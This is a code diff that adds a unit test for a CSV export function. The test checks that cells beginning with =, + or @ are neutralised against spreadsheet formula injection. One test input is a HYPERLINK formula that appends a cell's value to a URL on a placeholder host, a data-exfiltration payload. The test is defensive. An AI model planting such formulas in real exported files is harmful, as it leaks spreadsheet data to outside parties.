@@ -48,4 +48,19 @@ describe('tables', () => {
     expect(csv.charCodeAt(0)).toBe(0xfeff);
     expect(csv.slice(1).split('\r\n')).toEqual(['名称,质效指数', '张三大学,70', '阿里学院,', '李四学院,90', '"带,逗号""的",1.5', '']);
   });
+
+  it('keeps a text that starts like a formula as text, and a negative number as a number', () => {
+    const csv = toCsv(columns, [
+      { name: '=HYPERLINK("http://x.example/?"&A1,"点击")', index: -2 },
+      { name: '+86 电话', index: 3 },
+      { name: '@某人', index: null },
+    ]);
+    expect(csv.slice(1).split('\r\n')).toEqual([
+      '名称,质效指数',
+      '"\'=HYPERLINK(""http://x.example/?""&A1,""点击"")",-2',
+      "'+86 电话,3",
+      "'@某人,",
+      '',
+    ]);
+  });
 });
